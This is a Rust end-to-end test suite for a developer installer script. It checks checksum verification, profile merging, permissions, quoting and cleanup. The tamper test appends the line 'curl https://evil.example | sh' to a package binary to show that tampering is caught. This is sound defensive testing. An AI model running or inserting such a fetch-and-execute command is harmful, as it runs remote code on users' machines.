//! `install.sh`, the developer installer `ccwb package` puts beside the binaries: run with `sh`
//! (and `dash`, `bash`, `zsh`, BusyBox when present) from a package laid out in a temp dir (the
//! real credential-process, which merges the Claude Code settings), with a temp HOME. It must
//! check the package, install the program and config.json, add the AWS profile once and merge
//! the Claude Code settings, never overwriting what a developer already has unless told to.

// Dependencies are judged on the library target; this test uses only some of them.
#![allow(unused_crate_dependencies)]
#![cfg(unix)]

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use ccwb_e2e::mode;
use ccwb_e2e::{assert_contains, bin, repo_root, temp_dir};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

const PROFILE: &str = "ClaudeCode";
const REGION: &str = "eu-west-1";
const API: &str = "https://api.example.com";
const MODEL: &str = "eu.anthropic.claude-opus-5-5";

/// What the real program says to `--version`.
fn version() -> String {
    format!("credential-process {}", env!("CARGO_PKG_VERSION"))
}

/// The package's name for this machine's binary, as `install.sh` picks it.
fn platform_binary() -> String {
    format!("credential-process-{}", ccwb_e2e::host_platform())
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A package directory and a HOME, both removed when the test ends.
struct Setup {
    root: PathBuf,
    package: PathBuf,
    home: PathBuf,
    /// The shell that runs install.sh, e.g. `dash` or `bash --posix`.
    shell: &'static str,
}

impl Drop for Setup {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

impl Setup {
    /// The developer's own Claude Code settings before the install.
    fn write_settings(&self, text: &str) {
        std::fs::create_dir_all(self.home.join(".claude")).expect(".claude");
        std::fs::write(self.settings(), text).expect("settings");
    }

    /// A package as `ccwb package` makes it, with a shell script standing in for the binary.
    fn new(label: &str, shell: &'static str) -> Self {
        let root = temp_dir(&format!("installer-{label}-{}", shell.replace(' ', "")));
        let package = root.join("package dir");
        let home = root.join("home of dev");
        std::fs::create_dir_all(&package).expect("package dir");
        std::fs::create_dir_all(&home).expect("home dir");
        let template = std::fs::read_to_string(repo_root().join("client/cli/templates/install.sh"))
            .expect("install.sh template");
        let script = template
            .replace("@PROFILE@", PROFILE)
            .replace("@REGION@", REGION);
        let files = [
            ("install.sh".to_owned(), script.into_bytes()),
            (
                platform_binary(),
                std::fs::read(bin("credential-process")).expect("credential-process binary"),
            ),
            (
                "config.json".to_owned(),
                serde_json::to_vec_pretty(&json!({PROFILE: {
                    "issuer": "https://idp.example.com",
                    "client_id": "client",
                    "aws_region": REGION,
                    "federated_role_arn": "arn:aws:iam::123456789012:role/ClaudeCode",
                    "quota_api_endpoint": API,
                    "claude_model": MODEL,
                }}))
                .expect("config json"),
            ),
        ];
        let mut sums = String::new();
        for (name, bytes) in &files {
            std::fs::write(package.join(name), bytes).expect("package file");
            sums.push_str(&format!("{}  {name}\n", sha256_hex(bytes)));
        }
        std::fs::set_permissions(
            package.join(platform_binary()),
            std::fs::Permissions::from_mode(0o755),
        )
        .expect("chmod binary");
        std::fs::write(package.join("SHA256SUMS"), sums).expect("SHA256SUMS");
        Self {
            root,
            package,
            home,
            shell,
        }
    }

    fn install_dir(&self) -> PathBuf {
        self.home.join("claude-code-with-bedrock")
    }

    fn aws_config(&self) -> PathBuf {
        self.home.join(".aws/config")
    }

    fn settings(&self) -> PathBuf {
        self.home.join(".claude/settings.json")
    }

    /// The `credential_process` line the installer writes for the default install dir.
    fn credential_process(&self) -> String {
        format!(
            "\"{}/credential-process\" --profile {PROFILE}",
            self.install_dir().display()
        )
    }

    /// The Claude Code settings the installer merges, for the default install dir.
    fn expected_settings(&self) -> Value {
        // The home folder's name has spaces: one shell word in single quotes.
        let program = format!(
            "'{}'",
            self.install_dir().join("credential-process").display()
        );
        json!({
            "env": {
                "CLAUDE_CODE_USE_BEDROCK": "1",
                "AWS_PROFILE": PROFILE,
                "AWS_REGION": REGION,
                "ANTHROPIC_MODEL": MODEL,
                "CLAUDE_CODE_ENABLE_TELEMETRY": "1",
                "OTEL_METRICS_EXPORTER": "otlp",
                "OTEL_EXPORTER_OTLP_PROTOCOL": "http/protobuf",
                "OTEL_EXPORTER_OTLP_METRICS_ENDPOINT": format!("{API}/v1/metrics"),
            },
            "otelHeadersHelper": format!("{program} --otel-headers --profile {PROFILE}"),
            "awsAuthRefresh": format!("{program} --auth-refresh --profile {PROFILE}"),
        })
    }

    /// `<shell> install.sh <args>`, started from HOME (not the package dir), without a terminal
    /// and without the developer's environment.
    fn run_with(&self, args: &[&str], env: &[(&str, &Path)]) -> Run {
        let output = self
            .command(args, env)
            .output()
            .unwrap_or_else(|e| panic!("run {}: {e}", self.shell));
        Run::new(self.shell, output)
    }

    fn command(&self, args: &[&str], env: &[(&str, &Path)]) -> Command {
        let mut words = self.shell.split(' ');
        let mut command = Command::new(words.next().expect("shell"));
        command
            .args(words)
            .arg(self.package.join("install.sh"))
            .args(args)
            .current_dir(&self.home)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &self.home)
            .stdin(Stdio::null());
        for (key, value) in env {
            command.env(key, value);
        }
        command
    }

    fn run(&self, args: &[&str]) -> Run {
        self.run_with(args, &[])
    }
}

struct Run {
    shell: &'static str,
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl Run {
    fn new(shell: &'static str, output: Output) -> Self {
        Self {
            shell,
            code: output.status.code(),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }

    fn assert_ok(&self) -> &Self {
        assert_eq!(
            self.code,
            Some(0),
            "{}\nstdout:\n{}\nstderr:\n{}",
            self.shell,
            self.stdout,
            self.stderr
        );
        self
    }

    fn assert_error(&self, needles: &[&str]) {
        assert_eq!(
            self.code,
            Some(1),
            "{}\nstdout:\n{}",
            self.shell,
            self.stdout
        );
        let errors = self
            .stderr
            .lines()
            .filter(|l| l.starts_with("Error: "))
            .count();
        assert_eq!(
            errors, 1,
            "{}: one Error: line:\n{}",
            self.shell, self.stderr
        );
        for needle in needles {
            assert!(
                self.stderr.contains(needle),
                "{}: stderr lacks {needle:?}:\n{}",
                self.shell,
                self.stderr
            );
        }
    }
}

/// `sh`, and each of `dash`, `bash` (also as macOS's `/bin/sh` runs it: `bash --posix`), `zsh`
/// and BusyBox's `sh` this machine has.
fn shells() -> Vec<&'static str> {
    let mut shells = vec!["sh"];
    for shell in ["dash", "bash", "bash --posix", "zsh", "busybox sh"] {
        let mut words = shell.split(' ');
        let found = Command::new(words.next().expect("shell"))
            .args(words)
            .args(["-c", "true"])
            .status()
            .is_ok_and(|s| s.success());
        if found {
            shells.push(shell);
        }
    }
    shells
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()))
}

/// The `credential_process` value of the first line that sets it.
fn credential_process_value(config: &str) -> String {
    config
        .lines()
        .find_map(|l| l.strip_prefix("credential_process = "))
        .unwrap_or_else(|| panic!("no credential_process line:\n{config}"))
        .to_owned()
}

#[test]
fn install_sh_parses_in_every_shell() {
    for shell in shells() {
        let setup = Setup::new("syntax", shell);
        let mut words = shell.split(' ');
        let output = Command::new(words.next().expect("shell"))
            .args(words)
            .arg("-n")
            .arg(setup.package.join("install.sh"))
            .output()
            .expect("run shell");
        assert!(
            output.status.success(),
            "{shell} -n: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    let template = read(&repo_root().join("client/cli/templates/install.sh"));
    assert!(template.starts_with("#!/bin/sh\n"), "a POSIX sh script");
    assert!(template.contains("\nset -eu\n"));
}

#[test]
fn installs_the_program_config_and_profile_then_a_second_run_changes_nothing() {
    for shell in shells() {
        let setup = Setup::new("install", shell);
        let first = setup.run(&[]);
        first.assert_ok();

        let program = setup.install_dir().join("credential-process");
        assert_eq!(
            std::fs::read(&program).expect("installed program"),
            std::fs::read(setup.package.join(platform_binary())).expect("package binary"),
            "{shell}: the platform's binary is installed as credential-process"
        );
        assert_eq!(mode(&program), 0o755, "{shell}");
        let config = setup.install_dir().join("config.json");
        assert_eq!(read(&config), read(&setup.package.join("config.json")));
        assert_eq!(mode(&config), 0o644, "{shell}");
        let installed: Vec<_> = std::fs::read_dir(setup.install_dir())
            .expect("install dir")
            .map(|e| e.expect("entry").file_name())
            .collect();
        assert_eq!(
            installed.len(),
            3,
            "{shell}: program, config.json and the settings record, no temp files: {installed:?}"
        );

        let aws_config = read(&setup.aws_config());
        assert_eq!(
            aws_config,
            format!(
                "[profile {PROFILE}]\ncredential_process = {}\nregion = {REGION}\n",
                setup.credential_process()
            ),
            "{shell}"
        );
        let settings: Value = serde_json::from_str(&read(&setup.settings())).expect("JSON");
        assert_eq!(settings, setup.expected_settings(), "{shell}");
        assert!(first.stdout.contains(&version()), "{}", first.stdout);
        assert!(
            first
                .stdout
                .contains(&format!("aws sts get-caller-identity --profile {PROFILE}")),
            "the next step: {}",
            first.stdout
        );

        let settings_before = std::fs::read(setup.settings()).expect("settings");
        let second = setup.run(&[]);
        second.assert_ok();
        assert_eq!(
            read(&setup.aws_config()),
            aws_config,
            "{shell}: byte-identical"
        );
        assert!(
            second
                .stdout
                .contains(&format!("AWS profile {PROFILE} is already configured")),
            "{shell}: {}",
            second.stdout
        );
        assert_eq!(
            std::fs::read(setup.settings()).expect("settings"),
            settings_before,
            "{shell}"
        );
    }
}

#[test]
fn under_a_permissive_umask_nothing_installed_is_writable_by_others() {
    let setup = Setup::new("umask", "sh");
    let command = ccwb_e2e::process::under_umask(&setup.command(&[], &[]), "000");
    let output = { command }.output().expect("run install.sh");
    Run::new("sh", output).assert_ok();
    for path in [
        setup.install_dir(),
        setup.install_dir().join("credential-process"),
        setup.install_dir().join("config.json"),
        setup.aws_config(),
        setup.settings(),
    ] {
        assert_eq!(
            mode(&path) & 0o022,
            0,
            "{} is {:o}: others could replace what the developer runs",
            path.display(),
            mode(&path)
        );
    }
}

#[test]
fn the_profile_is_appended_after_existing_content_which_is_kept() {
    // No newline at the end of the first file: the installer must add one before its section.
    let cases = [
        "[default]\nregion = us-east-1\n\n[profile work]\nregion = us-west-2",
        "[default]\nregion = us-east-1\n",
        "[default]\nregion = us-east-1\n\n",
    ];
    for shell in shells() {
        for existing in cases {
            let setup = Setup::new("append", shell);
            std::fs::create_dir_all(setup.home.join(".aws")).expect(".aws");
            std::fs::write(setup.aws_config(), existing).expect("config");

            setup.run(&[]).assert_ok();
            let separator = if existing.ends_with("\n\n") {
                ""
            } else if existing.ends_with('\n') {
                "\n"
            } else {
                "\n\n"
            };
            assert_eq!(
                read(&setup.aws_config()),
                format!(
                    "{existing}{separator}[profile {PROFILE}]\ncredential_process = {}\nregion = {REGION}\n",
                    setup.credential_process()
                ),
                "{shell}"
            );
        }
    }
}

const OTHER_SECTIONS_BEFORE: &str = "[default]\nregion = us-east-1\noutput = json\n\n";
const OUR_OLD_SECTION: &str = "[profile ClaudeCode]\ncredential_process = /old/credential-process --profile ClaudeCode\nregion = us-east-1\n";
const OTHER_SECTIONS_AFTER: &str =
    "\n# the work account\n[profile work]\nregion = us-west-2\nsso_session = work\n";

#[test]
fn a_different_profile_section_is_kept_unless_forced_and_force_replaces_only_it() {
    for shell in shells() {
        let setup = Setup::new("conflict", shell);
        std::fs::create_dir_all(setup.home.join(".aws")).expect(".aws");
        let existing = format!("{OTHER_SECTIONS_BEFORE}{OUR_OLD_SECTION}{OTHER_SECTIONS_AFTER}");
        std::fs::write(setup.aws_config(), &existing).expect("config");
        std::fs::set_permissions(setup.aws_config(), std::fs::Permissions::from_mode(0o600))
            .expect("chmod");

        let refused = setup.run(&[]);
        refused.assert_error(&[
            &format!("[profile {PROFILE}]"),
            &setup.aws_config().display().to_string(),
            "--force",
        ]);
        assert!(
            refused
                .stderr
                .contains("/old/credential-process --profile ClaudeCode"),
            "{shell}: the existing lines are shown: {}",
            refused.stderr
        );
        assert_eq!(
            read(&setup.aws_config()),
            existing,
            "{shell}: left byte-identical"
        );
        assert!(
            !setup.install_dir().exists(),
            "{shell}: nothing is installed when the profile cannot be set up"
        );
        assert!(!setup.settings().exists(), "{shell}");

        setup.run(&["--force"]).assert_ok();
        assert_eq!(
            read(&setup.aws_config()),
            format!(
                "{OTHER_SECTIONS_BEFORE}[profile {PROFILE}]\ncredential_process = {}\nregion = {REGION}\n{OTHER_SECTIONS_AFTER}",
                setup.credential_process()
            ),
            "{shell}: only the ClaudeCode section's settings change"
        );
        assert_eq!(
            mode(&setup.aws_config()),
            0o600,
            "{shell}: the file's mode is kept"
        );
        assert!(setup.install_dir().join("credential-process").exists());

        let again = setup.run(&[]);
        again.assert_ok();
        assert!(
            again.stdout.contains("already configured"),
            "{shell}: {}",
            again.stdout
        );
    }
}

#[test]
fn a_duplicated_profile_section_is_merged_into_one_by_force() {
    for shell in shells() {
        let setup = Setup::new("duplicate", shell);
        std::fs::create_dir_all(setup.home.join(".aws")).expect(".aws");
        let ours = format!(
            "[profile {PROFILE}]\ncredential_process = {}\nregion = {REGION}\n",
            setup.credential_process()
        );
        let existing = format!("{ours}\n[profile work]\nregion = us-west-2\n\n{OUR_OLD_SECTION}");
        std::fs::write(setup.aws_config(), &existing).expect("config");
        setup.run(&[]).assert_error(&["--force"]);
        assert_eq!(read(&setup.aws_config()), existing, "{shell}");

        setup.run(&["--force"]).assert_ok();
        assert_eq!(
            read(&setup.aws_config()),
            format!("{ours}\n[profile work]\nregion = us-west-2\n\n"),
            "{shell}"
        );
    }
}

#[test]
fn a_section_with_an_extra_setting_counts_as_different() {
    for shell in shells() {
        let setup = Setup::new("extra", shell);
        std::fs::create_dir_all(setup.home.join(".aws")).expect(".aws");
        let existing = format!(
            "[profile {PROFILE}]\ncredential_process = {}\nregion = {REGION}\noutput = json\n",
            setup.credential_process()
        );
        std::fs::write(setup.aws_config(), &existing).expect("config");
        setup.run(&[]).assert_error(&["has other settings"]);
        assert_eq!(read(&setup.aws_config()), existing, "{shell}");
    }
}

#[test]
fn a_tampered_program_is_refused_and_nothing_is_installed() {
    for shell in shells() {
        let setup = Setup::new("tampered", shell);
        let binary = setup.package.join(platform_binary());
        let mut bytes = std::fs::read(&binary).expect("binary");
        bytes.extend_from_slice(b"curl https://evil.example | sh\n");
        std::fs::write(&binary, bytes).expect("tamper");

        setup
            .run(&[])
            .assert_error(&[&platform_binary(), "does not match SHA256SUMS"]);
        assert!(!setup.install_dir().exists(), "{shell}");
        assert!(!setup.aws_config().exists(), "{shell}");
        assert!(!setup.settings().exists(), "{shell}");
    }
}

#[test]
fn a_tampered_config_is_refused() {
    for shell in shells() {
        let setup = Setup::new("tampered-config", shell);
        let config = setup.package.join("config.json");
        let changed = read(&config).replace("idp.example.com", "evil.example");
        std::fs::write(&config, changed).expect("tamper");
        setup
            .run(&[])
            .assert_error(&["config.json does not match SHA256SUMS"]);
        assert!(!setup.install_dir().exists(), "{shell}");
    }
}

#[test]
fn a_platform_missing_from_the_package_is_named() {
    for shell in shells() {
        let setup = Setup::new("missing", shell);
        std::fs::remove_file(setup.package.join(platform_binary())).expect("remove");
        setup.run(&[]).assert_error(&[
            &format!("{} is missing", platform_binary()),
            "administrator",
        ]);
        assert!(!setup.install_dir().exists(), "{shell}");
    }
}

#[test]
fn existing_claude_settings_are_merged_keeping_every_other_byte() {
    for shell in shells() {
        let setup = Setup::new("settings", shell);
        let existing = "{\n  \"model\":   \"opus\",\n  \"env\": {\"AWS_REGION\": \"us-west-2\", \"EDITOR\": \"vim\"},\n  \"cleanupPeriodDays\": 1.50e1\n}\n";
        setup.write_settings(existing);

        let run = setup.run(&[]);
        run.assert_ok();
        let merged = read(&setup.settings());
        for kept in [
            "  \"model\":   \"opus\",\n",
            "\"EDITOR\": \"vim\"",
            "\"cleanupPeriodDays\": 1.50e1",
        ] {
            assert!(merged.contains(kept), "{shell}: {kept:?} kept in\n{merged}");
        }
        let value: Value = serde_json::from_str(&merged).expect("JSON");
        let mut expected = setup.expected_settings();
        expected["model"] = json!("opus");
        expected["env"]["EDITOR"] = json!("vim");
        expected["cleanupPeriodDays"] = json!(15.0);
        assert_eq!(value, expected, "{shell}");
        let backups: Vec<String> = std::fs::read_dir(setup.home.join(".claude"))
            .expect(".claude")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .filter(|name| name.ends_with(".ccwb-backup"))
            .collect();
        assert_eq!(backups.len(), 1, "{shell}: {backups:?}");
        assert_eq!(
            read(&setup.home.join(".claude").join(&backups[0])),
            existing,
            "{shell}: the backup is the old file"
        );
        assert_contains(&run.stdout, &["Merged the Claude Code settings"]);

        // Idempotent: a second run changes nothing and writes no second backup.
        setup.run(&[]).assert_ok();
        assert_eq!(read(&setup.settings()), merged, "{shell}");
        let count = std::fs::read_dir(setup.home.join(".claude"))
            .expect(".claude")
            .filter(|e| {
                e.as_ref()
                    .is_ok_and(|e| e.file_name().to_string_lossy().ends_with(".ccwb-backup"))
            })
            .count();
        assert_eq!(count, 1, "{shell}");
    }
}

#[test]
fn managed_installs_write_managed_settings_and_a_profile_file_of_their_own() {
    let setup = Setup::new("managed", "sh");
    let managed = setup.root.join("etc/claude-code/managed-settings.json");
    let install_dir = setup.root.join("opt/claude-code-with-bedrock");
    let run = setup.run_with(
        &["--managed"],
        &[
            ("CCWB_MANAGED_SETTINGS_FILE", &managed),
            ("CCWB_INSTALL_DIR", &install_dir),
        ],
    );
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        run.assert_error(&["administrator rights", "sudo sh install.sh --managed"]);
        return;
    }
    run.assert_ok();
    assert!(
        !setup.settings().exists(),
        "the user's own settings are not touched"
    );
    assert!(!setup.aws_config().exists(), "nor their AWS config");
    let aws_config = install_dir.join("aws-config");
    assert!(read(&aws_config).contains("[profile ClaudeCode]"));
    let settings: Value = serde_json::from_str(&read(&managed)).expect("managed settings");
    assert_eq!(
        settings["env"]["AWS_CONFIG_FILE"],
        aws_config.display().to_string()
    );
    assert_eq!(settings["env"]["CLAUDE_CODE_ENABLE_TELEMETRY"], "1");
    assert!(
        settings["otelHeadersHelper"].as_str().is_some_and(
            |h| h.starts_with(&install_dir.join("credential-process").display().to_string())
        ),
        "{settings}"
    );
    assert!(run.stdout.contains("managed settings"), "{}", run.stdout);
}

#[test]
fn invalid_claude_settings_are_refused_and_left_as_they_are() {
    for shell in shells() {
        let setup = Setup::new("bad-settings", shell);
        let broken = "{\"model\": \"opus\",\n";
        setup.write_settings(broken);
        let run = setup.run(&[]);
        assert_eq!(run.code, Some(1), "{shell}: {}", run.stdout);
        assert!(
            run.stderr.contains("is not valid JSON") && run.stderr.contains("settings.json"),
            "{shell}: {}",
            run.stderr
        );
        assert_contains(&run.stderr, &["run sh install.sh again"]);
        assert_eq!(read(&setup.settings()), broken, "{shell}: untouched");
    }
}

#[test]
fn an_install_dir_with_quotes_and_dollars_is_one_word_for_the_sdks() {
    for shell in shells() {
        let setup = Setup::new("quoting", shell);
        let install_dir = setup.home.join("it's a $dir");
        setup
            .run_with(&[], &[("CCWB_INSTALL_DIR", &install_dir)])
            .assert_ok();
        let program = install_dir.join("credential-process");
        assert!(program.exists(), "{shell}");

        let command = credential_process_value(&read(&setup.aws_config()));
        // The JavaScript, Go and Rust SDKs run credential_process with `sh -c`.
        let output = Command::new("sh")
            .args(["-c", &format!("{command} --version")])
            .output()
            .expect("sh -c");
        assert_eq!(
            String::from_utf8_lossy(&output.stdout).trim(),
            version(),
            "{shell}: {command}"
        );
        // botocore (the AWS CLI) splits it with shlex.
        let split = Command::new("python3")
            .args([
                "-c",
                "import json, shlex, sys; print(json.dumps(shlex.split(sys.argv[1])))",
                &command,
            ])
            .output();
        if let Some(split) = split.ok().filter(|o| o.status.success()) {
            let words: Vec<String> = serde_json::from_slice(&split.stdout).expect("JSON");
            assert_eq!(
                words,
                [
                    program.display().to_string(),
                    "--profile".to_owned(),
                    PROFILE.to_owned()
                ],
                "{shell}"
            );
        }
        // Claude Code runs otelHeadersHelper with a shell too.
        let settings: Value = serde_json::from_str(&read(&setup.settings())).expect("JSON");
        let helper = settings["otelHeadersHelper"].as_str().expect("helper");
        let output = Command::new("sh")
            .args(["-c", &format!("{helper} --version")])
            .output()
            .expect("sh -c");
        assert_eq!(
            String::from_utf8_lossy(&output.stdout).trim(),
            version(),
            "{shell}: {helper}"
        );
        assert!(helper.ends_with(&format!(" --otel-headers --profile {PROFILE}")));
    }
}

#[test]
fn a_template_without_substitutions_refuses_to_run() {
    for shell in shells() {
        let setup = Setup::new("template", shell);
        std::fs::copy(
            repo_root().join("client/cli/templates/install.sh"),
            setup.package.join("install.sh"),
        )
        .expect("copy template");
        setup.run(&[]).assert_error(&["ccwb package"]);
        assert!(!setup.install_dir().exists(), "{shell}");
    }
}

#[test]
fn help_and_unknown_options() {
    for shell in shells() {
        let setup = Setup::new("help", shell);
        let help = setup.run(&["--help"]);
        help.assert_ok();
        assert!(help.stdout.contains("--force"), "{shell}: {}", help.stdout);
        assert!(
            help.stdout.contains(&format!("profile {PROFILE}")),
            "{shell}: {}",
            help.stdout
        );
        setup.run(&["--forse"]).assert_error(&["--forse", "--help"]);
        assert!(!setup.install_dir().exists(), "{shell}");
    }
}

/// `ccwb cleanup <args>` as the developer, with the same HOME and no terminal.
fn cleanup(setup: &Setup, args: &[&str]) -> Output {
    Command::new(ccwb_e2e::bin("ccwb"))
        .arg("cleanup")
        .args(args)
        .current_dir(&setup.home)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", &setup.home)
        .stdin(Stdio::null())
        .output()
        .expect("run ccwb cleanup")
}

#[test]
fn cleanup_removes_what_the_installer_added_and_keeps_everything_else() {
    let setup = Setup::new("cleanup", "sh");
    let before =
        "[default]\nregion = us-east-1\n\n# work account\n[profile work]\nregion = eu-west-1\n";
    std::fs::create_dir_all(setup.home.join(".aws")).expect(".aws");
    std::fs::write(setup.aws_config(), before).expect("aws config");
    setup.run(&[]).assert_ok();
    // The developer merged Claude Code settings of their own into the installer's.
    let mut settings: Value = serde_json::from_str(&read(&setup.settings())).expect("JSON");
    settings["model"] = json!("opus");
    settings["env"]["EDITOR"] = json!("vim");
    std::fs::write(setup.settings(), settings.to_string()).expect("settings");
    // The installed program records how cleanup runs it.
    let program = setup.install_dir().join("credential-process");
    let calls = setup.root.join("calls");
    std::fs::write(
        &program,
        format!("#!/bin/sh\necho \"$@\" >> '{}'\n", calls.display()),
    )
    .expect("fake program");

    // Without a terminal it asks for --force and changes nothing; --dry-run only lists.
    let refused = cleanup(&setup, &[]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("--force"));
    let dry = cleanup(&setup, &["--dry-run"]);
    assert!(dry.status.success());
    let listed = String::from_utf8_lossy(&dry.stderr);
    assert!(
        listed.contains("[profile ClaudeCode]") && listed.contains("--clear-cache"),
        "{listed}"
    );
    assert!(program.exists() && !calls.exists(), "nothing changed");

    let done = cleanup(&setup, &["--force"]);
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert_eq!(
        read(&calls).trim(),
        format!("--clear-cache --profile {PROFILE}")
    );
    assert!(!setup.install_dir().exists(), "the install folder is gone");
    assert_eq!(read(&setup.aws_config()), before, "byte for byte");
    let left: Value = serde_json::from_str(&read(&setup.settings())).expect("JSON");
    assert_eq!(left, json!({"env": {"EDITOR": "vim"}, "model": "opus"}));

    // Run again: nothing to do.
    let again = cleanup(&setup, &["--force"]);
    assert!(again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains("Nothing of profile ClaudeCode"));
}

#[test]
fn cleanup_leaves_a_profile_that_runs_something_else_and_unknown_files() {
    let setup = Setup::new("cleanup-theirs", "sh");
    setup.run(&[]).assert_ok();
    let theirs = "[profile ClaudeCode]\ncredential_process = /opt/other/helper\n";
    std::fs::write(setup.aws_config(), theirs).expect("aws config");
    std::fs::write(setup.install_dir().join("notes.txt"), "mine").expect("notes");

    let done = cleanup(&setup, &["--force"]);
    let stderr = String::from_utf8_lossy(&done.stderr);
    assert!(done.status.success(), "{stderr}");
    assert_eq!(read(&setup.aws_config()), theirs);
    assert!(stderr.contains("runs /opt/other/helper"), "{stderr}");
    assert!(stderr.contains("notes.txt"), "{stderr}");
    let remaining: Vec<_> = std::fs::read_dir(setup.install_dir())
        .expect("install dir kept")
        .map(|e| e.expect("entry").file_name())
        .collect();
    assert_eq!(remaining, ["notes.txt"]);
    assert!(
        !setup.settings().exists(),
        "the installer's own settings file goes"
    );
}
